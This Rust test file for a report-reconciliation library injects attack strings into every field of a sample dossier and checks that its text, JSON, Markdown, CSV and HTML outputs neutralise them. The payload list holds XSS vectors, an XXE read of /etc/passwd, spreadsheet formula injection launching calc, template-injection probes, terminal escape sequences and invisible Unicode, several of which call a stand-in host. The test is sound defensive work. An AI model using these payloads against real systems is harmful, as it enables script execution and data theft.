//! A dossier whose every text attacks whoever shows it, in every format there is.
//!
//! Each payload that would run leaves a canary: it sets `window.pwned`, changes the title, or asks `canary.invalid` for
//! something. The dossier still has findings of every relation and level, so every part of every page is reached.

use std::collections::BTreeSet;
use std::fmt;

use crosscheck::input::{self, Source};
use crosscheck::report::{csv, html, json, markdown, text};
use crosscheck::{Dossier, Level, Reconciler, Reconciliation, Relation};
use serde_json::{Value, json};

type Render = fn(&Reconciliation<'_>, &mut String) -> fmt::Result;
type Check = fn(&str) -> Vec<String>;

/// What is written, how, and what must hold of it beside that nothing in it is hidden.
const FORMATS: &[(&str, Render, Check)] = &[
    ("text", |reconciliation, out| text::write(reconciliation, out), |_| Vec::new()),
    ("json", |reconciliation, out| json::write(reconciliation, out), is_json),
    ("markdown", |reconciliation, out| markdown::write(reconciliation, out), |_| Vec::new()),
    ("csv", |reconciliation, out| csv::write(reconciliation, out), |_| Vec::new()),
    ("html", |reconciliation, out| html::write(reconciliation, out), is_html),
];

/// Texts that somebody could put into a report.
const PAYLOADS: &[&str] = &[
    // Markup that runs.
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "\"><script src=//canary.invalid/s.js></script>",
    "'><img src=x onerror=window.pwned=3>",
    "<img src='http://canary.invalid/i.png' onload=window.pwned=4 onerror=\"document.title='pwned'\">",
    "</style><script>document.title='pwned'</script><style>*{background:url(//canary.invalid/c)}",
    "</title><svg onload=window.pwned=5>",
    "</textarea></noscript></template></select><body onload=window.pwned=6>",
    "--><script>window.pwned=7</script><!--",
    "--!><img src=x onerror=window.pwned=8>",
    "<![CDATA[<script>window.pwned=9</script>]]>",
    "]]><svg><script>window.pwned=10</script></svg>",
    "<?xml-stylesheet href='http://canary.invalid/x.xsl'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<svg><animate onbegin=window.pwned=11 attributeName=x dur=1s></svg>",
    "</text></svg><foreignObject><iframe srcdoc='<script>top.pwned=12</script>'></iframe></foreignObject>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=13>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=14>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=window.pwned=15 src>\">",
    "<details open ontoggle=window.pwned=16><summary>x</summary></details></summary></details>",
    "<input autofocus onfocus=window.pwned=17><a tabindex=0 onmouseover=window.pwned=18>x</a>",
    "<base href='http://canary.invalid/'><meta http-equiv=refresh content='0;url=http://canary.invalid/r'>",
    "<link rel=stylesheet href='http://canary.invalid/l.css'><style>@import 'http://canary.invalid/m.css';</style>",
    "<object data='http://canary.invalid/o'></object><embed src='http://canary.invalid/e'>",
    "<video><source onerror=window.pwned=19></video><audio src=x onerror=window.pwned=20>",
    "<template><script>window.pwned=21</script></template><slot onslotchange=window.pwned=22>",
    "<div style='width:99999px;position:fixed;inset:0;background:red'>",
    // Attributes, with every quotation mark and none.
    "\" onmouseover=window.pwned=23 x=\"",
    "' onfocus=window.pwned=24 autofocus='",
    "` onclick=window.pwned=25 `",
    " onclick=window.pwned=26 id=top class=x ",
    "x\" style=\"background:url(http://canary.invalid/s)\" y=\"",
    // Addresses.
    "javascript:window.pwned=27",
    "JaVa\tScRiPt:window.pwned=28//",
    "\u{1}javascript:document.title='pwned'",
    "data:text/html,<script>opener.pwned=29</script>",
    "https://canary.invalid/?q=\"><script>window.pwned=30</script>",
    "https://user:pass@canary.invalid/%22onclick=%22window.pwned=31#<b>",
    "//canary.invalid/p",
    "vbscript:msgbox(1) file:///etc/passwd blob:null/1",
    // Characters in other words.
    "&lt;script&gt;window.pwned=32&lt;/script&gt;",
    "&#60;script&#62;window.pwned=33&#x3c;/script&#x3e;",
    "&#x6A;avascript&colon;window.pwned=34 &amp;&quot;&apos;&#0;&notin; &copy",
    "%3Cscript%3Ewindow.pwned=35%3C/script%3E",
    "\\x3cscript\\x3ewindow.pwned=36\\x3c/script\\x3e \\u003cscript\\u003e \\ud800\\udfff \\ud83d",
    "＜script＞window.pwned=37＜/script＞",
    "+ADw-script+AD4-window.pwned=38+ADw-/script+AD4-",
    "</script><!--<script>{\"@context\":\"https://schema.org\"}\u{2028}window.pwned=39\u{2029}",
    "${window.pwned=40} {{constructor.constructor('window.pwned=41')()}} <%= 7*7 %> #{7*7} {% raw %} $(id) `id`",
    // Markdown.
    "[a](javascript:window.pwned=42) ![b](http://canary.invalid/m.png) <http://canary.invalid/n>",
    "[c]: http://canary.invalid/d \"t\"\n\n# Heading\n\n* * *\n> quote\n1. one\n```\nfence\n~~~ | a | b |",
    "**bold** _it_ ~~no~~ `code` \\[x\\] | pipe | @everyone #1 GH-1 https://canary.invalid/auto www.canary.invalid",
    "- [ ] task\n    indented\n<!-- comment -->\nSetext\n======\n***",
    // Sheets.
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=HYPERLINK(\"http://canary.invalid/h\",\"x\")",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "\"=1+1\",\"b\";\"c\"\t\"d\"\r\n=next",
    "|=1+1",
    // Terminals.
    "\u{1b}[2J\u{1b}[31mred\u{1b}[0m\u{9b}31m",
    "\u{1b}]8;;http://canary.invalid/\u{7}link\u{1b}]8;;\u{7}",
    "\u{1b}]0;title\u{7}\u{1b}P$q\"p\u{1b}\\\u{90}x\u{9c}\u{1b}]52;c;eA==\u{7}",
    "a\u{8}\u{8}\u{8}b\rc\u{b}d\u{c}e\u{7f}f\u{85}g",
    "before\u{0}after",
    // What is not seen, or seen elsewhere.
    "\u{202e}gnp.exe\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}",
    "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}\u{180e}\u{3164}\u{2800}x",
    "\u{fffe}\u{ffff}\u{10ffff}\u{fdd0}\u{fffd}\u{e000}\u{e0041}\u{e007f}\u{fe0f}",
    "مرحبا بالعالم שלום עולם ١٢٣",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}a\u{349}\u{34e}l\u{34d}\u{310}g\u{321}o\u{31b}",
    "\u{e0067}\u{e0062}\u{e007f} ﷽ 𒐫 ꧅",
];

/// Something long that cannot be broken anywhere.
fn unbroken() -> String {
    "W".repeat(140) + "<script>window.pwned=43</script>"
}

/// How a payload goes with the words that it disguises itself in.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Dress {
    /// Before them, where sheets and terminals look.
    Before,
    /// Behind them, so that everything stays in its order.
    Behind,
    /// Not at all: letters in place of the payload, one word for each.
    Harmless,
}

/// The texts of one round: each goes with the next payload.
struct Wardrobe {
    dress: Dress,
    round: usize,
    next: usize,
}

impl Wardrobe {
    fn dress(&mut self, words: &str) -> String {
        let number = (self.round + self.next) % (PAYLOADS.len() + 1);
        self.next += 1;
        let payload = PAYLOADS.get(number).map_or_else(unbroken, ToString::to_string);
        let words = format!("{words} {}", letters(self.round));
        match self.dress {
            Dress::Before => format!("{payload}{words}"),
            Dress::Behind => format!("{words}{payload}"),
            // A value with control characters is flawed, whatever else it says.
            Dress::Harmless => {
                let kept: String = payload.chars().filter(|c| c.is_control()).collect();
                format!("{words}{kept} x{}", letters(number))
            }
        }
    }
}

/// A number in letters, so that nothing takes it for an amount.
fn letters(number: usize) -> String {
    [number / 26 % 26, number % 26].iter().map(|digit| char::from(b'a' + *digit as u8)).collect()
}

/// How many rounds it takes until every field has had every payload.
pub(crate) const ROUNDS: usize = PAYLOADS.len() + 1;

/// The records of one round, of which every text carries a payload.
fn records(dress: Dress, round: usize) -> Value {
    let mut wardrobe = Wardrobe { dress, round, next: 0 };
    let mut d = |words: &str| wardrobe.dress(words);
    let reports = ["alpha report", "bravo report", "carol report", "delta report"].map(&mut d);
    let [alpha, bravo, carol, delta] = &reports;
    let story = "The harbour master said on the quay that nobody had seen the vessel leave before the tide turned and \
        that two crews had been asked to look for it along the northern wall until the light failed";
    let shared = format!("{story} {}", d("shared words"));
    let published = ["2024-03-12", "2024-03-13", "2024-03-14", "2024-03-15"];
    let mut rows: Vec<Value> = reports
        .iter()
        .enumerate()
        .map(|(index, id)| {
            json!({
                "id": id, "outlet": d("outlet"), "title": d("title"), "language": d("en"), "published": published[index],
                "url": if index % 2 == 0 { d("https://canary.invalid/") } else { d("") },
                "text": if index == 1 || index == 3 { shared.clone() } else { d("text of its own") },
                "derived_from": if index == 2 { vec![alpha] } else { Vec::new() },
            })
        })
        .collect();
    rows.push(json!({"id": d("echo report"), "published": d("some day")}));
    let [ship, town, north, south, port, quay] = ["ship", "town", "north", "south", "port", "quay"].map(&mut d);
    let (name, alias) = (d("Aurora"), d("Old Lady"));
    let entities = json!([
        {"id": ship, "name": name, "aliases": [alias, d("Rust bucket")], "kind": "thing"},
        {"id": town, "name": d("Whole town"), "parts": "disjoint", "kind": "place"},
        {"id": north, "name": d("Upper half"), "part_of": [town], "kind": "place"},
        {"id": south, "name": d("Lower half"), "part_of": [town], "kind": "place"},
        {"id": port, "name": d("Haven"), "kind": "place"},
        {"id": quay, "name": d("Landing"), "part_of": [port], "kind": "place"},
    ]);
    let [cause, hurt, crew, dead, homes, state, berth, first, free, flag] =
        ["cause", "hurt", "crew", "dead", "homes", "state", "berth", "first", "free", "flag"].map(&mut d);
    let [missing, sunk] = ["missing", "sunk"].map(&mut d);
    let attributes = json!([
        {"id": cause, "label": d("cause of it"), "kind": "category", "semantics": "functional"},
        {"id": hurt, "label": d("number hurt"), "kind": "count", "semantics": "functional"},
        {"id": crew, "label": d("crew size"), "kind": "count", "semantics": "functional"},
        {"id": dead, "label": d("number dead"), "kind": "count", "semantics": "cumulative"},
        {"id": homes, "label": d("homes lost"), "kind": "count", "semantics": "functional"},
        {"id": state, "label": d("state"), "kind": "category", "semantics": "status", "order": [[missing, sunk]]},
        {"id": berth, "label": d("berth"), "kind": "place", "semantics": "functional"},
        {"id": first, "label": d("first trip"), "kind": "date", "semantics": "first"},
        {"id": free, "label": d("words"), "kind": "text", "semantics": "multi_valued"},
    ]);
    let mut claims: Vec<Value> = Vec::new();
    let mut claim = |report: &str, who: &str, what: &str, fields: Value, d: &mut dyn FnMut(&str) -> String| {
        let number = claims.len();
        let mut claim = json!({
            "id": d(&format!("claim {}", letters(number))), "report": report, "who": who, "what": what,
            "locator": d("paragraph"), "quote": d("as it is said"),
        });
        claim.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        claims.push(claim);
        claims[number]["id"].as_str().unwrap().to_owned()
    };
    let (event, place, sort) = (d("event"), d("Somewhere"), d("as counted"));
    let [fire, storm] = ["fire", "storm"].map(&mut d);
    // Contradictions: between reports, and of one report with itself.
    claim(alpha, &name, &cause, json!({"value": fire, "event": event, "where": place, "definition": sort}), &mut d);
    claim(bravo, &alias, &cause, json!({"value": storm, "event": event, "where": place, "definition": sort}), &mut d);
    claim(alpha, &ship, &crew, json!({"value": 10}), &mut d);
    claim(alpha, &ship, &crew, json!({"value": 40, "modality": "confirmed"}), &mut d);
    claim(bravo, &port, &first, json!({"value": "2024-03-13"}), &mut d);
    claim(alpha, &port, &first, json!({"value": "2024-03-02"}), &mut d);
    // A dispute.
    let [captain, owner] = ["the captain", "the owner"].map(&mut d);
    claim(alpha, &ship, &hurt, json!({"value": 30, "speaker": [d("an agency"), captain]}), &mut d);
    claim(bravo, &ship, &hurt, json!({"value": 3, "speaker": [owner], "statement": d("statement")}), &mut d);
    // A set.
    claim(alpha, &town, &homes, json!({"value": 15, "when": "2024-03-11"}), &mut d);
    claim(bravo, &north, &homes, json!({"value": 10, "when": "2024-03-11"}), &mut d);
    claim(carol, &south, &homes, json!({"value": 9, "when": "2024-03-11"}), &mut d);
    // An update, a correction, a refinement.
    claim(alpha, &ship, &dead, json!({"value": "at least 3", "when": "2024-03-11"}), &mut d);
    claim(delta, &ship, &dead, json!({"value": 5, "when": "yesterday"}), &mut d);
    claim(alpha, &ship, &state, json!({"value": missing, "when": "2024-03-11"}), &mut d);
    claim(delta, &ship, &state, json!({"value": sunk, "when": "2024-03-14"}), &mut d);
    let wrong = claim(alpha, &port, &crew, json!({"value": 7}), &mut d);
    claim(alpha, &port, &crew, json!({"value": 8, "corrects": wrong}), &mut d);
    claim(alpha, &ship, &berth, json!({"value": port}), &mut d);
    claim(bravo, &ship, &berth, json!({"value": quay}), &mut d);
    // Agreements, and words that two reports share.
    let [one, two, three] = ["green hull", "brass bell", "tall mast"].map(&mut d);
    for value in [one, two, three] {
        for report in [bravo, delta, carol] {
            claim(report, &ship, &free, json!({"value": value, "quote": shared}), &mut d);
        }
    }
    // Flawed: words that are no number, no date, and a day that never was.
    claim(alpha, &north, &hurt, json!({"value": d("several")}), &mut d);
    claim(alpha, &south, &dead, json!({"value": 2, "when": d("some time")}), &mut d);
    claim(alpha, &south, &first, json!({"value": "Thursday, April , 2024"}), &mut d);
    // Undeclared.
    claim(alpha, &ship, &flag, json!({"value": d("red")}), &mut d);
    claim(bravo, &d("Nobody"), &d("hue"), json!({"value": d("blue"), "polarity": false}), &mut d);
    json!({"reports": rows, "entities": entities, "attributes": attributes, "claims": claims})
}

/// A dossier of several rounds, which have nothing to do with one another.
pub(crate) fn dossier(dress: Dress, rounds: impl IntoIterator<Item = usize>) -> Dossier {
    let mut all = json!({"reports": [], "entities": [], "attributes": [], "claims": []});
    for round in rounds {
        for (list, rows) in records(dress, round).as_object_mut().unwrap() {
            all[list].as_array_mut().unwrap().append(rows.as_array_mut().unwrap());
        }
    }
    input::load(&[Source::new("attacks.json", all.to_string().as_bytes())]).unwrap_or_else(|faults| panic!("{faults}"))
}

/// What is wrong with the tags of a page: names that are none of ours, attributes that could do something, addresses
/// that lead anywhere but within the page or to the web.
fn is_html(page: &str) -> Vec<String> {
    const NAMES: &[&str] = &[
        "!DOCTYPE",
        "a",
        "article",
        "b",
        "bdi",
        "blockquote",
        "body",
        "caption",
        "code",
        "dd",
        "defs",
        "details",
        "div",
        "dl",
        "dt",
        "figcaption",
        "figure",
        "footer",
        "g",
        "h1",
        "h2",
        "h3",
        "h4",
        "head",
        "header",
        "html",
        "li",
        "line",
        "main",
        "marker",
        "meta",
        "ol",
        "p",
        "path",
        "q",
        "rect",
        "section",
        "small",
        "span",
        "style",
        "summary",
        "svg",
        "table",
        "tbody",
        "td",
        "text",
        "th",
        "thead",
        "title",
        "tr",
        "ul",
        "strong",
        "em",
        "nav",
        "time",
        "aside",
    ];
    const ATTRIBUTES: &[&str] = &[
        "aria-hidden",
        "aria-label",
        "aria-labelledby",
        "charset",
        "class",
        "content",
        "d",
        "dir",
        "height",
        "href",
        "html",
        "http-equiv",
        "id",
        "lang",
        "marker-end",
        "markerHeight",
        "markerWidth",
        "name",
        "orient",
        "refX",
        "refY",
        "rel",
        "role",
        "rx",
        "scope",
        "tabindex",
        "text-anchor",
        "viewBox",
        "width",
        "x",
        "x1",
        "x2",
        "y",
        "y1",
        "y2",
    ];
    let mut wrong = Vec::new();
    // Between the tags of style there is none.
    let (head, rest) = page.split_once("<style>").unwrap_or((page, ""));
    let (_, body) = rest.split_once("</style>").unwrap_or(("", ""));
    for piece in head.split('<').skip(1).chain(body.split('<').skip(1)) {
        let Some((tag, _)) = piece.split_once('>') else {
            wrong.push(format!("no end of <{piece}"));
            continue;
        };
        let tag = tag.trim_start_matches('/').trim_end_matches('/').trim_end();
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        if !NAMES.contains(&name) {
            wrong.push(format!("<{name}>"));
        }
        while let Some((attribute, rest)) = attributes.split_once("=\"") {
            let (value, rest) = rest.split_once('"').unwrap_or((rest, ""));
            let attribute = attribute.trim();
            if !ATTRIBUTES.contains(&attribute) {
                wrong.push(format!("{attribute} of <{name}>"));
            }
            if attribute == "href" && !["#", "http://", "https://"].iter().any(|start| value.starts_with(start)) {
                wrong.push(format!("a link to {value}"));
            }
            attributes = rest;
        }
        if !matches!(attributes.trim(), "" | "html") {
            wrong.push(format!("{attributes:?} in <{name}>"));
        }
    }
    wrong
}

#[test]
fn tags_that_are_not_ours_are_seen() {
    for page in
        ["<script>", "<p onclick=\"x\">", "<p x>", "<a href=\"javascript:x\">", "<p class=x>", "<p", "<img src=\"x\">"]
    {
        assert!(!is_html(page).is_empty(), "{page}");
    }
    assert_eq!(is_html("<!DOCTYPE html><p class=\"x\">a &lt; b</p><path d=\"M0\" />"), Vec::<String>::new());
}

fn is_json(page: &str) -> Vec<String> {
    match serde_json::from_str::<Value>(page) {
        Ok(_) if page.lines().count() == 1 => Vec::new(),
        Ok(_) => vec!["more than one line".to_owned()],
        Err(error) => vec![error.to_string()],
    }
}

/// Characters that no page may hold: they act on a terminal, or nobody sees them.
fn hidden(page: &str) -> BTreeSet<String> {
    let is_hidden = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe0f}' | '\u{feff}' | '\u{fdd0}'
                | '\u{fffe}'..='\u{ffff}' | '\u{e0000}'..='\u{e0fff}' | '\u{10ffff}')
    };
    page.chars().filter(|c| is_hidden(*c)).map(|c| c.escape_unicode().to_string()).collect()
}

#[test]
fn the_attacks_reach_every_relation_and_level() {
    let dossier = dossier(Dress::Behind, 0..4);
    let reconciliation = Reconciler::new().reconcile(&dossier);
    let findings = reconciliation.findings();
    let relations: BTreeSet<Relation> = findings.iter().map(|finding| finding.relation()).collect();
    for relation in [Relation::Agrees, Relation::Refines, Relation::Supersedes, Relation::Contradicts] {
        assert!(relations.contains(&relation), "{relation}");
    }
    let clashes = findings.iter().filter(|finding| finding.is_contradiction());
    let levels: BTreeSet<Level> = clashes.map(|finding| finding.level()).collect();
    assert_eq!(levels.len(), 4, "{levels:?}");
    let causes: BTreeSet<_> = findings.iter().filter_map(|finding| finding.cause()).collect();
    assert_eq!(causes.len(), 2, "an update and a correction: {causes:?}");
    assert!(reconciliation.flawed().len() >= 4 && !reconciliation.notes().is_empty());
    assert!(reconciliation.dependence().inferred().next().is_some(), "copies");
}

#[test]
fn no_format_lets_an_attack_through() {
    for dress in [Dress::Before, Dress::Behind] {
        for round in 0..ROUNDS {
            let dossier = dossier(dress, [round]);
            let reconciliation = Reconciler::new().reconcile(&dossier);
            for (name, render, check) in FORMATS {
                let mut page = String::new();
                render(&reconciliation, &mut page).unwrap();
                let wrong = (hidden(&page), check(&page));
                assert!(wrong.0.is_empty() && wrong.1.is_empty(), "{name}, {dress:?}, round {round}: {wrong:?}");
            }
        }
    }
}

/// Only so are pages of the two to be compared.
#[test]
fn harmless_letters_in_place_of_attacks_change_no_verdict() {
    for round in 0..ROUNDS {
        let verdicts = |dress| -> Vec<String> {
            let dossier = dossier(dress, [round]);
            let reconciliation = Reconciler::new().reconcile(&dossier);
            let told = |finding: &crosscheck::Finding<'_>| {
                let (level, severity) = (finding.level(), finding.severity().level());
                format!("{} {level} {severity} {:?} {}", finding.relation(), finding.rule(), finding.claims().len())
            };
            reconciliation.findings().iter().map(told).collect()
        };
        let [attack, harmless] = [Dress::Behind, Dress::Harmless].map(verdicts);
        assert_eq!(attack, harmless, "round {round}");
    }
}
